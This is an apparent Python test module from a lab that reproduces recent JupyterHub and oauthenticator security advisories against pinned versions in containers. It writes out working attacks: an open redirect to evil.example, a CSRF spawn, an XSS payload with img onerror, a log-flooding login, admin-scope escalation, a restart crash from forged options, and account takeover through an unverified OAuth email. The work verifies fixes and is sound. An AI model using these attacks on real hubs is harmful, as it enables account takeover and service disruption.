"""What the attacks of JupyterHub's and oauthenticator's 2026 advisories achieve (claims ADV-20..HUB-49).

Used by ``runbooks/advisories/jupyterhub-recent.md``, which starts one hub of
the pinned release (6.1.1, ``containers/hub/``) and one of 5.4.3
(``containers/hub-adv-5.4/``), the last release before the first of these
fixes, with the same configuration (:func:`recent_setup`): the default PAM
authenticator (alice, bob and carol log in with their passwords), a group
``students`` and a service ``groupadmin`` whose admin scopes are filtered to
that group, and the ``shares`` scope for the lab's ``runbook`` service, which
plays the owner who shares a server.  Every function here is one attack,
made from the lab's client machine as a browser (a cookie jar) or through the
REST API as the holder of a token.
"""

from __future__ import annotations

import json
import re
import shlex
import time
from urllib.parse import parse_qs, urlsplit

from jsv.claims import Observation
from jsv.environments import JupyterHub, NetClient
from jsv.environments.command_line import curl_from_environment, curl_token_header
from jsv.environments.hub import READY_MARKER
from jsv.probes.login import form_login, register_jar
from jsv.redaction import new_token, register

GROUP = "students"
GROUP_ADMIN_SCOPES = [f"admin:users!group={GROUP}", f"admin:groups!group={GROUP}"]
"""ADV-25: ``groupadmin`` administers the users and the group ``students``, nothing else."""
EVIL_HOST = "evil.example"
NEWCOMER = "mallory"
"""ADV-25: a system account (PAM creates no hub user without one) that is not a hub user yet."""
OWNER, GUEST, VICTIM = "alice", "bob", "carol"
RENAMED = "alice-renamed"
XSS_NEXT = '/hub/"><img src=x onerror=alert(document.domain)>'
"""ADV-23: a ``next`` the hub accepts as a local path, which closes the link's attribute on 5.4.3."""
INJECTED = '"><img src=x onerror=alert(document.domain)>'
LONG_NAME_LENGTH = 256 * 1024
"""ADV-22: the user name of one failed login (tornado accepts a form body up to 100 MB)."""
GROWTH_LIMIT = 16 * 1024
"""ADV-22: far above the few hundred bytes a shortened name costs, far below the name (the hub's writes
of so long a record may stop part-way; 178,465 bytes in one run)."""
FORGED_OPTIONS = {"__jupyterhub_bytes__": True, "data": 5}
"""ADV-26: user options shaped like the hub's own encoding of bytes, with a value it cannot decode."""


def recent_setup(hub: JupyterHub) -> JupyterHub:
    """The configuration both hubs share: a group, a group-filtered admin service, sharing for the runbook."""
    return (
        hub.with_service_token("groupadmin", GROUP_ADMIN_SCOPES)
        .with_role("sharing", ["shares", "read:shares", "access:servers"], services=["runbook"])
        .with_config(f"c.JupyterHub.load_groups = {{'{GROUP}': {{'users': ['{GUEST}']}}}}")
    )


# -- pure helpers ---------------------------------------------------------------------------------
_SCHEME = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*:")


def browser_destination(location: str, origin_host: str) -> str:
    """The host a browser goes to when a page of ``origin_host`` answers with ``Location: location``.

    The WHATWG URL standard, not Python's ``urljoin``: for http(s) a backslash is a slash, and a
    reference that starts with two or more slashes names a host (the parser skips every further
    slash), so ``///evil.example/`` leaves the hub while ``urljoin`` keeps it on the same host.
    """
    text = location.strip().replace("\\", "/")
    if _SCHEME.match(text):
        text = text.split(":", 1)[1]
        if not text.startswith("/"):
            return origin_host
    if not text.startswith("//"):
        return origin_host
    return text.lstrip("/").split("/", 1)[0].split("?", 1)[0].split("#", 1)[0] or origin_host


# -- the attacks ---------------------------------------------------------------------------------
def _login(client: NetClient, target: JupyterHub, user: str) -> str:
    jar = f"/tmp/{target.alias}-{user}"
    form_login(client, target.url(), target.passwords[user], jar, username=user, path="/hub/login")
    return jar


def open_redirect_after_login(client: NetClient, target: JupyterHub) -> Observation:
    """ADV-20: a logged-in user opens ``/hub/login?next=http://<hub>///evil.example/``."""
    jar = _login(client, target, OWNER)
    host = target.url("").split("//", 1)[1].rstrip("/")
    next_url = target.url(f"///{EVIL_HOST}/")
    reply = client.http(target.url("/hub/login"), "-G", "--data-urlencode", f"next={next_url}", "-b", jar)
    location = reply.headers.get("location", "")
    destination = browser_destination(location, host) if location else host
    answers = {
        "status": reply.status,
        "Location": location,
        "leaves the hub for": destination if destination != host else None,
    }
    return Observation(answers, reply.transcript)


def spawn_without_xsrf(client: NetClient, target: JupyterHub) -> Observation:
    """ADV-21: a page on another origin of the same site makes carol's browser POST /hub/spawn, no _xsrf."""
    jar = _login(client, target, VICTIM)
    reply = client.http(
        target.url("/hub/spawn"),
        "-X", "POST", "-d", "",
        "-H", "Sec-Fetch-Mode: no-cors",
        "-H", "Sec-Fetch-Site: same-site",
        "-H", f"Origin: http://mallory.{target.alias}",
        "-b", jar,
    )  # fmt: skip
    _, model, listed = target.api(f"users/{VICTIM}")
    started = bool(isinstance(model, dict) and model.get("servers", {}).get(""))
    answers = {"POST /hub/spawn": reply.status, f"{VICTIM}'s server started": started}
    return Observation(answers, f"{reply.transcript}\n\n{listed.transcript}")


LONG_LOGIN = """head -c {length} /dev/zero | tr '\\0' a > /tmp/long-name
rm -f {jar}; curl -s -c {jar} -o /dev/null {base}/hub/login
xsrf=$(awk '$6=="_xsrf" {{print $7}}' {jar})
curl -s -b {jar} -o /dev/null -w 'POST /hub/login: %{{http_code}}\\n' --data-urlencode "_xsrf=$xsrf" \\
     --data-urlencode username@/tmp/long-name {password} {base}/hub/login"""


def long_username_logged(client: NetClient, target: JupyterHub) -> Observation:
    """ADV-22: one failed login with a user name of 256 KiB; then how much the hub's log grew.

    The growth, not the longest line: on 5.4.3 the hub's logging may fail part-way through so long a
    record ("--- Logging error ---", then the record's arguments again), which splits it into pieces and
    loses part of it, so the growth varies from run to run.
    """
    log = "/var/log/jupyterhub.log"
    before = _file_size(target, log)
    jar = f"/tmp/{target.alias}-long"
    password = new_token(f"{target.alias}-wrong-password", 12)
    command = LONG_LOGIN.format(
        length=LONG_NAME_LENGTH,
        jar=jar,
        base=target.url("").rstrip("/"),
        password=curl_from_environment("JSV_PASSWORD", "data-urlencode", "password={}"),
    )
    login = client.run(command, environment={"JSV_PASSWORD": password})
    register_jar(client, jar)
    grown = _settled_size(target, log) - before
    status = login.stdout.strip().rsplit(" ", 1)[-1]
    answers = {
        "login": int(status) if status.isdigit() else 0,
        "log grew by more than 16 KiB": grown > GROWTH_LIMIT,
    }
    return Observation(answers, f"{login.transcript}\n\n(the hub's log {log} grew by {grown} bytes)")


def _file_size(target: JupyterHub, path: str) -> int:
    size = target.run(f"stat -c %s {path}").stdout.strip()
    return int(size) if size.isdigit() else 0


def _settled_size(target: JupyterHub, path: str, timeout: float = 20) -> int:
    """The size of ``path`` once it has not changed for two seconds (the hub writes a long record slowly)."""
    size, deadline = _file_size(target, path), time.monotonic() + timeout
    while time.monotonic() < deadline:
        time.sleep(2)
        now = _file_size(target, path)
        if now == size:
            return now
        size = now
    return size


def share_page_injection(client: NetClient, target: JupyterHub) -> Observation:
    """ADV-23: alice's share code, opened by bob with a crafted ``next``; is markup injected into the page?"""
    owner_jar = _login(client, target, OWNER)
    client.http(target.url("/hub/home"), "-b", owner_jar)  # creates alice's default server record
    status, model, issued = target.api(f"share-codes/{OWNER}/", "POST", {})
    code = model.get("code", "") if isinstance(model, dict) else ""
    if not code:
        return Observation({"share code": status}, issued.transcript)
    register(code, f"{target.alias}-share-code")
    guest_jar = _login(client, target, GUEST)
    page = client.http(  # the code (a secret) in the URL, which curl reads from its environment
        target.url(f"/hub/accept-share?code={code}"),
        "-G",
        "--data-urlencode",
        f"next={XSS_NEXT}",
        "-b",
        guest_jar,
    )
    answers = {"accept-share page": page.status, "markup injected": INJECTED in page.body}
    lines = [line.strip() for line in page.body.splitlines() if "redirected to" in line]
    return Observation(answers, f"{issued.transcript}\n\n{page.transcript}\n" + "\n".join(lines))


def share_after_rename(target: JupyterHub) -> Observation:
    """ADV-24: alice shares her server with bob, an admin renames alice; the server bob's share names."""
    shared, _, share = target.api(f"shares/{OWNER}/", "POST", {"user": GUEST})
    renamed, _, rename = target.api(f"users/{OWNER}", "PATCH", {"name": RENAMED})
    _, listing, listed = target.api(f"shares/{RENAMED}/")
    items = listing.get("items", []) if isinstance(listing, dict) else []
    scopes = sorted({scope for item in items for scope in item.get("scopes", [])})
    answers = {"share": shared, "rename": renamed, f"{GUEST}'s share grants": scopes}
    return Observation(answers, "\n\n".join(r.transcript for r in (share, rename, listed)))


def filtered_admin_creates(target: JupyterHub) -> Observation:
    """ADV-25: ``groupadmin`` (admin of the group students only) creates a user and a group."""
    token = target.service_tokens["groupadmin"]
    user_status, _, user_call = target.api("users", "POST", {"usernames": [NEWCOMER]}, token)
    new_group = {"groups": ["staff"], "users": [VICTIM]}
    group_status, _, group_call = target.api("groups", "POST", new_group, token)
    answers = {f"create user {NEWCOMER}": user_status, "create group staff with carol": group_status}
    return Observation(answers, f"{user_call.transcript}\n\n{group_call.transcript}")


def forged_options_survive_restart(target: JupyterHub) -> Observation:
    """ADV-26: bob starts his server with forged user options; then the hub restarts. Does it serve again?"""
    _, model, minted = target.api(f"users/{GUEST}/tokens", "POST", {"note": "bob's own client"})
    token = model.get("token", "") if isinstance(model, dict) else ""
    if token:
        register(token, f"{target.alias}-bob-token")
    started, _, spawn = target.api(f"users/{GUEST}/server", "POST", FORGED_OPTIONS, token)
    _wait_for_spawn(target)
    markers = target.logs_text().count(READY_MARKER)
    target.get_wrapped_container().restart(timeout=10)
    up = _ready_again(target, markers + 1)
    listed_status = 0
    evidence = [minted.transcript, spawn.transcript]
    if up:
        listed_status, _, listed = target.api("users")
        evidence.append(listed.transcript)
    else:
        evidence.append("after the restart: the hub exited; last log lines:\n" + target.log_tail(4))
    answers = {
        "start with the options": started,
        "hub serves its users after a restart": up and listed_status == 200,
    }
    return Observation(answers, "\n\n".join(evidence))


def _wait_for_spawn(target: JupyterHub, timeout: int = 60) -> None:
    """Until bob's spawn has ended (the hub's progress stream closes), as ``JupyterHub.spawn`` waits."""
    target.run(
        f"curl -s -N -o /dev/null --max-time {timeout} {curl_token_header('JSV_RUNBOOK_TOKEN')} "
        f"{shlex.quote(target.local_url(f'/hub/api/users/{GUEST}/server/progress'))}",
        timeout=timeout + 10,
    )


def _ready_again(target: JupyterHub, markers: int, timeout: float = 90) -> bool:
    """Whether the hub logs its ready line a ``markers``-th time before it exits or ``timeout`` passes."""
    container = target.get_wrapped_container()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if target.logs_text().count(READY_MARKER) >= markers:
            return True
        container.reload()
        if container.status not in {"created", "running", "restarting"}:
            return False
        time.sleep(0.5)
    return False


# -- ADV-27, HUB-49: oauthenticator's Auth0OAuthenticator and an unverified e-mail address ------------------
VICTIM_EMAIL = "alice@uni.test"
INTRUDER = "mallory"
INTRUDER_CLAIMS = {"email": VICTIM_EMAIL, "email_verified": False}
"""ADV-27: mallory's account at the provider carries alice's address, which the provider has not verified."""

OAUTH_STEP = "curl -s -b {jar} -c {jar} -o /dev/null -w '%{{http_code}} %{{redirect_url}}\\n' {url}"
OAUTH_CALLBACK = curl_from_environment("CALLBACK", "url", "{}")


def auth0_setup(
    hub: JupyterHub, discovery: dict[str, str], provider_host: str, *, allow_all: bool = False
) -> JupyterHub:
    """Auth0OAuthenticator with the lab's OpenID Connect provider in Auth0's place; users named by e-mail.

    Who may log in: alice's address (``allowed_users``, ADV-27) or everyone (``allow_all``, HUB-49).
    """
    allowed = (
        "c.Auth0OAuthenticator.allow_all = True"
        if allow_all
        else f"c.Auth0OAuthenticator.allowed_users = {{{VICTIM_EMAIL!r}}}"
    )
    return hub.with_env("JSV_OAUTH_CLIENT_SECRET", new_token(f"{hub.alias}-oauth-client-secret")).with_config(
        "c.JupyterHub.authenticator_class = 'auth0'",
        f"c.Auth0OAuthenticator.auth0_domain = {provider_host!r}",
        "c.Auth0OAuthenticator.client_id = 'jupyterhub'",
        "c.Auth0OAuthenticator.client_secret = os.environ['JSV_OAUTH_CLIENT_SECRET']",
        f"c.Auth0OAuthenticator.authorize_url = {discovery['authorization_endpoint']!r}",
        f"c.Auth0OAuthenticator.token_url = {discovery['token_endpoint']!r}",
        f"c.Auth0OAuthenticator.userdata_url = {discovery['userinfo_endpoint']!r}",
        "c.Auth0OAuthenticator.scope = ['openid', 'email']",
        allowed,
    )


def set_intruder_claims(client: NetClient, provider_url: str) -> None:
    """Give mallory's subject at the provider the claims of :data:`INTRUDER_CLAIMS`."""
    body = shlex.quote(json.dumps(INTRUDER_CLAIMS))
    json_header = "-H 'Content-Type: application/json'"
    client.run(f"curl -s -X PUT {json_header} -d {body} {provider_url}/users/{INTRUDER}")


def unverified_email_login(client: NetClient, target: JupyterHub) -> Observation:
    """ADV-27: mallory logs in through the provider; which hub user does the session belong to?"""
    jar = f"/tmp/{target.alias}-{INTRUDER}"
    client.run(f"rm -f {jar}")
    start = client.run(OAUTH_STEP.format(jar=jar, url=target.url("/hub/oauth_login")))
    authorize = start.stdout.split()[-1]
    answer = client.run(OAUTH_STEP.format(jar=jar, url=f"-d sub={INTRUDER} {shlex.quote(authorize)}"))
    callback = answer.stdout.split()[-1]
    codes = parse_qs(urlsplit(callback).query).get("code", [])
    if codes:
        register(codes[0], "oauth-code")
    visit = client.run(OAUTH_STEP.format(jar=jar, url=OAUTH_CALLBACK), environment={"CALLBACK": callback})
    register_jar(client, jar)
    whoami = client.http(target.url("/hub/api/user"), "-b", jar)
    name = whoami.json().get("name") if whoami.status == 200 else None
    status = visit.stdout.split()[0] if visit.stdout.split() else "0"
    answers = {"callback": int(status) if status.isdigit() else 0, "session of": name}
    return Observation(answers, f"{visit.transcript}\n\n{whoami.transcript}")
